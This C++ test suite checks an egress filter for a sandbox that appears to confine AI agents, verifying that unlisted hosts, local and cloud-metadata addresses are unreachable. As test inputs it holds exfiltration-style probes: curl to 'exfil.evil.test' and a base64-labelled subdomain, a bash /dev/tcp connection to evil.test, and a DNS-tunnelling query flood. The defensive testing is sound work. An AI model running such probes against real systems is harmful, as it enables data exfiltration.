// The way out of a box, with programs that know of no proxy. Each refusal stands beside a control
// that shows the same thing working where it may.
#include "launcher/egress/egress.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <stdexcept>

#include "tests/integration/egress/network.h"

namespace agentbox::egress::test {
namespace {

using ::testing::Contains;

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;
using ::testing::SizeIs;

const std::string kPublic = kPublicAddress;

// curl's statuses for a connection that was reset: while it was made (7), while the request was
// sent (55) or while the answer was awaited (56). Which of them is a race of two processes.
const auto is_reset = ::testing::AnyOf(7, 55, 56);

TEST(Names, ReachTheHostThatThePolicyNames) {
  NameServer names;
  names.add("allowed.test", {kPublic});
  Service service(kPublic, 80);
  Box box({"allowed.test:80"});
  const Result result = box.run({"curl", "-sS", "http://allowed.test/"});
  EXPECT_EQ(result.status, 0);
  EXPECT_EQ(result.output, "canary");
  EXPECT_THAT(box.finish(), ElementsAre("allowed.test:80 allowed " + kPublic));
}

TEST(Names, OthersAreRefusedAndNeverAskedUpstream) {
  NameServer names;
  names.add("allowed.test", {kPublic});
  names.add("c2VjcmV0.evil.test", {kPublic});
  Service service(kPublic, 80);
  EXPECT_EQ(run_on_host({"curl", "-sS", "http://c2VjcmV0.evil.test/"}).output, "canary");
  EXPECT_THAT(names.asked(), Contains("c2VjcmV0.evil.test"));

  Box box({"allowed.test:80"});
  for (const char* host : {"exfil.evil.test", "allowed.test.evil.test", "evilallowed.test",
                           "sub.allowed.test", "metadata.google.internal"}) {
    const Result result = box.run({"curl", "-sS", std::string("http://") + host + "/"});
    EXPECT_EQ(result.status, 6) << host << result.output;
    EXPECT_THAT(names.asked(), Not(Contains(host)));
    const std::string record = host + std::string(" refused the policy does not name it");
    EXPECT_THAT(box.records_with(record), Contains(record));
  }
  EXPECT_EQ(box.run({"curl", "-sS", "http://ALLOWED.test./"}).output, "canary");
}

TEST(Names, WildcardsCoverLabelsInFrontOnly) {
  NameServer names;
  names.add("api.wild.test", {kPublic});
  names.add("a.b.wild.test", {kPublic});
  Service service(kPublic, 80);
  Box box({"*.wild.test:80", "!bad.wild.test:80"});
  EXPECT_EQ(box.run({"curl", "-sS", "http://api.wild.test/"}).output, "canary");
  EXPECT_EQ(box.run({"curl", "-sS", "http://a.b.wild.test/"}).output, "canary");
  for (const char* host : {"wild.test", "evilwild.test", "bad.wild.test"}) {
    EXPECT_EQ(box.run({"curl", "-sS", std::string("http://") + host}).status, 6) << host;
    EXPECT_THAT(names.asked(), Not(Contains(host)));
  }
}

TEST(Names, PortsBelongToTheirHost) {
  NameServer names;
  names.add("web.test", {kPublic});
  names.add("ssh.test", {kPublic});
  Service web(kPublic, 80);
  Service ssh(kPublic, 22);
  Box box({"web.test:80", "ssh.test:22"});
  EXPECT_EQ(box.run({"curl", "-sS", "http://web.test/"}).output, "canary");
  EXPECT_EQ(box.run({"curl", "-sS", "http://ssh.test:22/"}).output, "canary");
  EXPECT_THAT(box.run({"curl", "-sS", "http://web.test:22/"}).status, is_reset);
  EXPECT_EQ(box.run({"curl", "-sS", "http://web.test:8080/"}).status, 7);  // refused
  EXPECT_EQ(ssh.connections(), 1U);
  EXPECT_THAT(box.finish(),
              Contains("web.test:22 refused the policy names this host, but not this port"));
}

// One service for each address that a name must not lead to, so that a hole would be seen.
class LocalAddress : public ::testing::TestWithParam<std::string> {};

TEST_P(LocalAddress, IsNotReachedByAName) {
  NameServer names;
  names.add("inner.test", {GetParam()});
  Service v4("0.0.0.0", 80);
  Service v6("::", 80);
  const Result control = run_on_host({"curl", "-sS", "-m", "5", "http://inner.test/"});
  ASSERT_EQ(control.output, "canary") << GetParam();
  const unsigned before = v4.connections() + v6.connections();
  {
    Box box({"inner.test:80"});
    EXPECT_THAT(box.run({"curl", "-sS", "http://inner.test/"}).status, is_reset);
    EXPECT_THAT(box.finish(), Contains(HasSubstr("a local address, and the policy does not")));
  }
  EXPECT_EQ(v4.connections() + v6.connections(), before);
}

INSTANTIATE_TEST_SUITE_P(Each, LocalAddress,
                         ::testing::Values("127.0.0.1", "10.0.0.1", "169.254.169.254",
                                           "100.100.100.200", "::1", "::ffff:10.0.0.1",
                                           "64:ff9b::a00:1", "64:ff9b::a9fe:a9fe", "fd00:ec2::254",
                                           kOwnAddress));

TEST(Names, LeadToALocalAddressOnlyIfThePolicyNamesIt) {
  NameServer names;
  names.add("intranet.test", {"10.1.2.3"});
  Service service("10.1.2.3", 80);
  Box box({"intranet.test:80", "10.1.0.0/16:80"});
  EXPECT_EQ(box.run({"curl", "-sS", "http://intranet.test/"}).output, "canary");
  Box denied({"intranet.test:80", "10.0.0.0/8:80", "!10.1.2.3:80"});
  EXPECT_THAT(denied.run({"curl", "-sS", "http://intranet.test/"}).status, is_reset);
  EXPECT_EQ(service.connections(), 1U);
}

TEST(Names, RebindingDoesNotTurnInwards) {
  NameServer names;
  names.add("rebind.test", {kPublic, "127.0.0.1"});
  Service outside(kPublic, 80, "public");
  Service inside("127.0.0.1", 80, "private");
  {
    Box box({"rebind.test:80"});
    EXPECT_EQ(box.run({"curl", "-sS", "http://rebind.test/"}).output, "public");
    EXPECT_THAT(box.run({"curl", "-sS", "http://rebind.test/"}).status, is_reset);
  }
  EXPECT_EQ(outside.connections(), 1U);
  EXPECT_EQ(inside.connections(), 0U);
}

TEST(Names, DeadFirstAddressFallsBackToTheNext) {
  NameServer names;
  names.add("both.test", {kPublicAddressV6, kPublic});
  Service service(kPublic, 80);  // nothing listens at the IPv6 address
  Box box({"both.test:80"});
  EXPECT_EQ(box.run({"curl", "-sS", "http://both.test/"}).output, "canary");
}

TEST(Names, UnderOneWildcardAreLimitedInNumber) {
  Box box({"*.wild.test:80", "other.test:80"});
  const Result result = box.python(
      "import socket\n"
      "got = 0\n"
      "for i in range(300):\n"
      "  try: socket.getaddrinfo(f'n{i}.wild.test', 80, socket.AF_INET); got += 1\n"
      "  except socket.gaierror: pass\n"
      "print(got, socket.gethostbyname('n0.wild.test') != socket.gethostbyname('other.test'))\n");
  EXPECT_EQ(result.output, "256 True\n");
  EXPECT_THAT(box.finish(), Contains(HasSubstr("n256.wild.test refused this session has used")));
}

TEST(Addresses, AreReachedIfNamedAndOnlyThen) {
  Service v4(kPublic, 8080);
  Service v6(kPublicAddressV6, 8080);
  Service other("93.184.216.35", 8080);
  Service ranged("10.20.30.40", 8080);
  Box box({kPublic + ":8080", "[" + std::string(kPublicAddressV6) + "]:8080", "10.20.0.0/16:8080"});
  EXPECT_EQ(box.run({"curl", "-sS", "http://" + kPublic + ":8080/"}).output, "canary");
  EXPECT_EQ(box.run({"curl", "-sS", "http://[" + std::string(kPublicAddressV6) + "]:8080/"}).output,
            "canary");
  EXPECT_EQ(box.run({"curl", "-sS", "http://10.20.30.40:8080/"}).output, "canary");
  for (const char* url : {"http://93.184.216.35:8080/", "http://10.21.0.1:8080/",
                          "http://[2606:2800:220::2]:8080/", "http://169.254.169.254:8080/"}) {
    EXPECT_EQ(box.run({"curl", "-sS", url}).status, 7) << url;
  }
  // An address of the names' own range that no name has.
  EXPECT_THAT(box.run({"curl", "-sS", "http://198.18.77.77:8080/"}).status, is_reset);
  EXPECT_EQ(other.connections(), 0U);
}

TEST(Localhost, IsTheHostsOwnOnNamedPortsOnly) {
  Service database("127.0.0.1", 5432, "database");
  Service v6_only("::1", 5433, "six");
  Service hidden("127.0.0.1", 6379, "hidden");
  ASSERT_EQ(run_on_host({"curl", "-sS", "http://127.0.0.1:6379/"}).output, "hidden");
  Box box({"localhost:5432", "localhost:5433"});
  for (const char* host : {"localhost", "127.0.0.1", "[::1]"}) {
    EXPECT_EQ(box.run({"curl", "-sS", std::string("http://") + host + ":5432/"}).output,
              "database");
    EXPECT_EQ(box.run({"curl", "-sS", std::string("http://") + host + ":6379/"}).status, 7);
  }
  EXPECT_EQ(box.run({"curl", "-sS", "http://localhost:5433/"}).output, "six");
  EXPECT_EQ(hidden.connections(), 1U);
}

TEST(Localhost, SharesAPortWithAName) {
  NameServer names;
  names.add("db.test", {kPublic});
  Service local("127.0.0.1", 5432, "local");
  Service remote(kPublic, 5432, "remote");
  Box box({"localhost:5432", "db.test:5432"});
  EXPECT_EQ(box.run({"curl", "-sS", "http://localhost:5432/"}).output, "local");
  EXPECT_EQ(box.run({"curl", "-sS", "http://db.test:5432/"}).output, "remote");
}

TEST(Localhost, IsRefusedWhereOnlyANameHasThePort) {
  Service local("127.0.0.1", 5432, "local");
  {
    Box box({"db.test:5432"});
    EXPECT_THAT(box.run({"curl", "-sS", "http://127.0.0.1:5432/"}).status, is_reset);
    EXPECT_THAT(box.finish(), Contains("localhost:5432 refused the policy does not name it"));
  }
  EXPECT_EQ(local.connections(), 0U);
}

TEST(Programs, NeedToKnowNothing) {
  NameServer names;
  names.add("allowed.test", {kPublic});
  Service service(kPublic, 80);
  Box box({"allowed.test:80"});
  EXPECT_EQ(box.python("import urllib.request as u\n"
                       "print(u.urlopen('http://allowed.test/').read().decode())")
                .output,
            "canary\n");
  EXPECT_EQ(
      box.run({"node", "-e", "fetch('http://allowed.test/').then(r => r.text()).then(console.log)"})
          .output,
      "canary\n");
  EXPECT_EQ(box.run({"node", "-e",
                     "const c = require('net').connect(80, 'allowed.test');"
                     "c.on('data', d => { console.log(String(d)); c.end(); }); c.write('echo');"})
                .output,
            "echo\n");
  EXPECT_EQ(box.run({"bash", "-c",
                     "exec 3<>/dev/tcp/allowed.test/80; echo hello >&3; read -r line <&3;"
                     "echo $line"})
                .output,
            "hello\n");
  EXPECT_NE(box.run({"node", "-e", "fetch('http://evil.test/').then(r => r.text())"}).status, 0);
  EXPECT_NE(box.run({"bash", "-c", "exec 3<>/dev/tcp/evil.test/80"}).status, 0);
}

TEST(Programs, GitFetchesFromADaemon) {
  NameServer names;
  names.add("git.test", {kPublic});
  const Result started = run_on_host(
      {"bash", "-c",
       "set -e; d=$(mktemp -d); git init -q $d/r; cd $d/r; git config user.name n;"
       "git config user.email e; git commit -q --allow-empty -m c; touch .git/git-daemon-export-ok;"
       "git daemon --reuseaddr --listen=93.184.216.34 --base-path=$d --pid-file=$d/pid --detach "
       ">/dev/null 2>&1 </dev/null; while ! test -s $d/pid; do sleep 0.05; done; printf %s $d"});
  ASSERT_EQ(started.status, 0) << started.output;
  {
    Box box({"git.test:9418"});
    EXPECT_THAT(box.run({"git", "ls-remote", "git://git.test/r"}).output, HasSubstr("HEAD"));
  }
  {
    Box box({"git.test:22"});
    EXPECT_NE(box.run({"git", "ls-remote", "git://git.test/r"}).status, 0);
  }
  run_on_host({"bash", "-c", "kill $(cat $0/pid); rm -rf $0", started.output});
}

TEST(Box, HasNoOtherWayOut) {
  Service service("0.0.0.0", 80);
  const char* const kTries =
      "import socket\n"
      "def attempt(what, f):\n"
      "  try: f(); print(what, 'open')\n"
      "  except OSError as e: print(what, e.errno)\n"
      "def udp(): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('93.184.216.34', "
      "53))\n"
      "def tcp(): socket.create_connection(('93.184.216.34', 80), 5)\n"
      "def six(): socket.socket(socket.AF_INET6).connect(('2606:2800:220::1', 80))\n"
      "attempt('udp', udp); attempt('tcp', tcp); attempt('six', six)\n";
  EXPECT_THAT(run_on_host({"python3", "-c", kTries}).output, HasSubstr("udp open\ntcp open\n"));
  Box box({"allowed.test:80"});
  EXPECT_EQ(box.python(kTries).output, "udp 101\ntcp 101\nsix 101\n");  // ENETUNREACH
}

TEST(Box, IsNotReachedFromOutsideOrFromAnother) {
  NameServer names;
  names.add("allowed.test", {kPublic});
  Service service(kPublic, 80);
  Box first({"allowed.test:80"});
  Box second({"other.test:80"});
  ASSERT_EQ(first.run({"curl", "-sS", "http://allowed.test/"}).output, "canary");
  EXPECT_EQ(second.run({"curl", "-sS", "http://allowed.test/"}).status, 6);
  // The address that the first box knows it by means nothing in the second.
  EXPECT_EQ(first.run({"curl", "-sS", "http://198.18.0.1/"}).output, "canary");
  EXPECT_THAT(second.run({"curl", "-sS", "http://198.18.0.1/"}).status, is_reset);
  EXPECT_NE(run_on_host({"curl", "-sS", "-m", "5", "http://198.18.0.1/"}).status, 0);
  EXPECT_EQ(first
                .python("import socket, threading\n"
                        "s = socket.create_server(('0.0.0.0', 9000))\n"
                        "c = socket.create_connection(('127.0.0.1', 9000)); print('inside')\n")
                .output,
            "inside\n");
}

TEST(Empty, RulesNeedNothingAndOpenNothing) {
  NameServer names;
  names.add("allowed.test", {kPublic});
  EXPECT_THAT(listens(policy::NetworkRules()), IsEmpty());
  EXPECT_THAT(local_routes(policy::NetworkRules()), IsEmpty());
  Box box({});
  EXPECT_EQ(box.run({"curl", "-sS", "http://allowed.test/"}).status, 6);
  EXPECT_EQ(box.run({"curl", "-sS", "http://" + kPublic}).status, 7);
  EXPECT_THAT(names.asked(), IsEmpty());
}

constexpr char kExchange[] =
    "import socket, threading, hashlib, os\n"
    "data = os.urandom(1 << 16) * 256\n"
    "s = socket.create_connection(('echo.test', 7))\n"
    "def send():\n"
    "  s.sendall(data); s.shutdown(socket.SHUT_WR)\n"
    "t = threading.Thread(target=send); t.start()\n"
    "got = hashlib.sha256(); n = 0\n"
    "while True:\n"
    "  b = s.recv(1 << 20)\n"
    "  if not b: break\n"
    "  got.update(b); n += len(b)\n"
    "t.join()\n"
    "print(n == len(data), got.digest() == hashlib.sha256(data).digest())\n";

TEST(Relay, CarriesBothWaysAndHalfCloses) {
  NameServer names;
  names.add("echo.test", {kPublic});
  Service echo(kPublic, 7);
  Box box({"echo.test:7"});
  EXPECT_EQ(box.python(kExchange).output, "True True\n");
}

TEST(Relay, PassesOnAFailureAsAReset) {
  NameServer names;
  names.add("nobody.test", {kPublic});
  Box box({"nobody.test:80", "unknown.test:80"});
  EXPECT_THAT(box.run({"curl", "-sS", "http://nobody.test/"}).status, is_reset);
  EXPECT_THAT(box.run({"curl", "-sS", "http://unknown.test/"}).status, is_reset);
  EXPECT_THAT(box.finish(), ElementsAre("nobody.test:80 refused cannot connect to " + kPublic +
                                            ": Connection refused",
                                        HasSubstr("unknown.test:80 refused cannot resolve it")));
}

TEST(Relay, SlowNameServerHoldsUpNobodyElse) {
  NameServer names;
  names.add("fast.test", {kPublic});
  names.withhold("slow.test");
  Service service(kPublic, 80);
  Box box({"slow.test:80", "fast.test:80"});
  // The slow connection is accepted and waits; the fast one, begun later, is served meanwhile.
  EXPECT_EQ(box.python("import socket, urllib.request as u\n"
                       "slow = socket.create_connection(('slow.test', 80))\n"
                       "print(u.urlopen('http://fast.test/').read().decode())\n"
                       "slow.setblocking(False)\n"
                       "try: print('closed', slow.recv(1))\n"
                       "except BlockingIOError: print('still waiting')\n")
                .output,
            "canary\nstill waiting\n");
}

TEST(Relay, WaitsForTheRecordButOthersDoNot) {
  NameServer names;
  names.add("first.test", {kPublic});
  names.add("second.test", {kPublic});
  Service echo(kPublic, 7);
  std::mutex log_disk;
  Box box({"first.test:7", "second.test:7"}, [&](const Connection& connection) {
    if (connection.subject == "second.test:7") {
      const std::lock_guard lock(log_disk);
    }
  });
  log_disk.lock();
  std::thread client([&] {
    EXPECT_EQ(box.python("import socket\n"
                         "a = socket.create_connection(('first.test', 7))\n"
                         "a.sendall(b'one'); print(a.recv(10))\n"
                         "b = socket.create_connection(('second.test', 7))\n"
                         "b.sendall(b'two'); b.settimeout(1)\n"
                         "try: print(b.recv(10))\n"
                         "except TimeoutError: print('not yet')\n"
                         "a.sendall(b'three'); print(a.recv(10))\n")
                  .output,
              "b'one'\nnot yet\nb'three'\n");
  });
  client.join();
  log_disk.unlock();
}

TEST(Relay, CarriesNothingThatCannotBeRecorded) {
  NameServer names;
  names.add("allowed.test", {kPublic});
  Service service(kPublic, 80);
  Box box({"allowed.test:80"}, [](const Connection&) { throw std::runtime_error("disk full"); });
  EXPECT_THAT(box.run({"curl", "-sS", "http://allowed.test/"}).status, is_reset);
}

TEST(Relay, LimitsConnectionsAndRecovers) {
  NameServer names;
  names.add("echo.test", {kPublic});
  Service echo(kPublic, 7);
  Box box({"echo.test:7"});
  EXPECT_EQ(box.python("import socket\n"
                       "def ask(s):\n"
                       "  try: s.sendall(b'x'); return s.recv(1) == b'x'\n"
                       "  except OSError: return False\n"
                       // The reset of one too many may come before connect(2) has returned.
                       "def dial():\n"
                       "  try: return socket.create_connection(('echo.test', 7))\n"
                       "  except OSError: return None\n"
                       "all = [dial() for i in range(600)]\n"
                       "n = sum(ask(s) for s in all if s)\n"
                       "print(16 <= n <= 512)\n")
                .output,
            "True\n");
  EXPECT_THAT(box.records_with("no more are taken"), Contains(HasSubstr("no more are taken")));
  EXPECT_EQ(box.python(kExchange).output, "True True\n");
}

TEST(Log, IsNotFilledByAFlood) {
  Box box({"allowed.test:80"});
  box.python(
      "import socket, struct\n"
      "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('127.0.0.1', 53))\n"
      "for i in range(5000):\n"
      "  label = b'data%05d' % i\n"
      "  s.send(struct.pack('>6H', i, 256, 1, 0, 0, 0) + bytes([len(label)]) + label +\n"
      "         b'\\4evil\\4test\\0' + struct.pack('>2H', 1, 1)); s.recv(512)\n");
  const std::vector<std::string> records = box.finish();
  ASSERT_THAT(records, SizeIs(65));
  EXPECT_EQ(records.front(), "data00000.evil.test refused the policy does not name it");
  EXPECT_EQ(records.back(),
            "* refused 4936 more refusals within a minute, repeated or too many to list");
}

TEST(Stub, AnswersByTcpTooAndSurvivesNonsense) {
  Box box({"allowed.test:80", "dns.test:53"});
  EXPECT_EQ(
      box.python(
             "import socket, struct\n"
             "q = struct.pack('>6H', 7, 256, 1, 0, 0, 0) + b'\\7allowed\\4test\\0' +"
             " struct.pack('>2H', 1, 1)\n"
             "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(('127.0.0.1', 53))\n"
             "for n in range(len(q)): u.send(q[:n])\n"
             "u.send(q * 100)\n"
             "t = socket.create_connection(('127.0.0.1', 53))\n"
             "t.sendall(struct.pack('>H', len(q)) + q); r = t.recv(512)\n"
             "print(r[2:4] == b'\\0\\7', socket.inet_ntoa(r[-4:]))\n"
             "t.sendall(struct.pack('>H', len(q)) + q); print(len(t.recv(512)))\n"
             "big = socket.create_connection(('127.0.0.1', 53)); big.sendall(b'\\xff\\xff')\n"
             "print(big.recv(10))\n"
             "print(socket.gethostbyname('allowed.test'))\n")
          .output,
      "True 198.18.0.1\n48\nb''\n198.18.0.1\n");
}

TEST(Ending, DoesNotWaitForADeadNameServer) {
  NameServer names;
  names.withhold("slow.test");
  Box box({"slow.test:80"});
  EXPECT_EQ(box.python("import socket\n"
                       "s = socket.create_connection(('slow.test', 80)); print('accepted')")
                .output,
            "accepted\n");
  EXPECT_THAT(box.finish(), IsEmpty());
}

}  // namespace
}  // namespace agentbox::egress::test

int main(int count, char** arguments) {
  ::testing::InitGoogleMock(&count, arguments);
  agentbox::egress::test::become_host();
  return RUN_ALL_TESTS();
}
